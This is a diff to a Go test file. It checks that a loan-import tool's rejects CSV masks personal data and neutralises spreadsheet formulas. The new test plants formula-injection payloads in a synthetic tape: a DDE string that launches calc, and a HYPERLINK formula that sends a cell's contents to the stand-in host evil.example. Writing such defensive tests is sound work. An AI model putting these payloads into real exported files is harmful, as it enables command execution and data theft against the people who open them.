@@ -15,6 +15,7 @@ import (
 	"time"
 
 	"reclaim"
+	"reclaim/csvsafe"
 	"reclaim/date"
 	"reclaim/ingest"
 	"reclaim/pii"
@@ -156,11 +157,26 @@ func TestImportAllOrNothing(t *testing.T) {
 	})
 }
 
-// checkRejects: the rejects file holds every invalid row, its cells unchanged, with reasons.
+// checkRejects: the rejects file holds every invalid row with reasons: its personal cells masked
+// (no personal value of the tape appears anywhere in the row), every other cell unchanged but for
+// formula neutralisation.
 func checkRejects(t *testing.T, tapePath, rejectsPath string, want int) {
 	t.Helper()
 	orig := readCSV(t, tapePath)
 	rej := readCSV(t, rejectsPath)
+	layout, err := tape.NewLayout(orig[0], nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	personal := map[int]tape.Field{}
+	for i, b := range layout.Bindings {
+		if b != nil && b.Column >= 0 && tape.Fields[i].Personal {
+			personal[b.Column] = tape.Field(i)
+		}
+	}
+	if len(personal) < 3 {
+		t.Fatalf("the test tape has %d personal columns; want name, ID and phone at least", len(personal))
+	}
 	if len(rej)-1 != want {
 		t.Fatalf("rejects file has %d rows, want %d", len(rej)-1, want)
 	}
@@ -175,8 +191,17 @@ func checkRejects(t *testing.T, tapePath, rejectsPath string, want int) {
 	for i, r := range orig[1:] {
 		line := strconv.Itoa(i + 2) // header is line 1; no embedded newlines in synthetic tapes
 		if got, ok := byLine[line]; ok {
-			if !slices.Equal(got[:n], r) {
-				t.Errorf("line %s changed in the rejects file", line)
+			for c := range r {
+				wantCell := csvsafe.Cell(r[c])
+				if f, ok := personal[c]; ok {
+					wantCell = tape.MaskCell(f, r[c])
+					if v := strings.TrimSpace(r[c]); len([]rune(v)) > 2 && strings.Contains(strings.Join(got, ","), v) {
+						t.Errorf("line %s: personal %s %q in clear in the rejects file", line, tape.Fields[f].Name, v)
+					}
+				}
+				if got[c] != wantCell {
+					t.Errorf("line %s column %s: %q in the rejects file, want %q", line, orig[0][c], got[c], wantCell)
+				}
 			}
 			if got[n+1] == "" || got[n+2] == "" {
 				t.Errorf("line %s has no reasons", line)
@@ -335,4 +360,62 @@ func TestLendingClubMapping(t *testing.T) {
 			t.Errorf("extras on %d, USD/US- region on %d of %d loans", withExtras, usd, rep.Imported)
 		}
 	})
+}
+
+// TestRejectsNeutraliseFormulas: a tape whose cells are formulas (in a mapped amount column that
+// makes the row invalid, in the header, and in an unmapped column) yields a rejects file in which
+// no cell starts a formula, a plain negative number stays as it was, and the personal cells of the
+// rejected rows are masked. No database is involved (a dry run).
+func TestRejectsNeutraliseFormulas(t *testing.T) {
+	dir := t.TempDir()
+	tp, _, _ := writeTape(t, dir, 20, nil, synth.TapeOptions{})
+	rows := readCSV(t, tp)
+	layout, err := tape.NewLayout(rows[0], nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	claim := layout.Bindings[tape.FTotalClaim].Column
+	idCol := layout.Bindings[tape.FNationalID].Column
+	rows[0] = append(rows[0], "=cmd|' /C calc'!A0")
+	for i := 1; i < len(rows); i++ {
+		rows[i] = append(rows[i], `=HYPERLINK("http://evil.example/?"&A1,"x")`)
+	}
+	rows[1][claim] = "-1+cmd|' /C calc'!A0" // invalid amount: the row is rejected
+	rows[2][claim] = "-5.00"                // a negative claim: rejected by the rules, still a number
+	id1 := rows[1][idCol]
+	bad := filepath.Join(dir, "bad.csv")
+	f, _ := os.Create(bad)
+	w := csv.NewWriter(f)
+	w.WriteAll(rows)
+	f.Close()
+	rejects := filepath.Join(dir, "rejects.csv")
+	rep, err := ingest.Run(context.Background(), nil, nil, bad, ingest.Options{DryRun: true, RejectsPath: rejects})
+	if err == nil || rep.Invalid < 2 {
+		t.Fatalf("want the two rows rejected: %v %+v", err, rep)
+	}
+	raw, _ := os.ReadFile(rejects)
+	if strings.Contains(string(raw), id1) {
+		t.Errorf("the rejects file holds a national ID in clear")
+	}
+	rej := readCSV(t, rejects)
+	for i, r := range rej {
+		for j, c := range r {
+			if csvsafe.Risky(c) {
+				t.Errorf("rejects row %d column %d is a live formula: %q", i, j, c)
+			}
+		}
+	}
+	if rej[0][len(rows[0])-1] != "'=cmd|' /C calc'!A0" {
+		t.Errorf("header cell %q", rej[0][len(rows[0])-1])
+	}
+	byLine := map[string][]string{}
+	for _, r := range rej[1:] {
+		byLine[r[len(rows[0])]] = r
+	}
+	if r := byLine["2"]; r == nil || r[claim] != "'-1+cmd|' /C calc'!A0" || r[idCol] != tape.MaskCell(tape.FNationalID, id1) {
+		t.Errorf("line 2 in the rejects file: %q", r)
+	}
+	if r := byLine["3"]; r == nil || r[claim] != "-5.00" {
+		t.Errorf("line 3 in the rejects file: %q", r)
+	}
 }
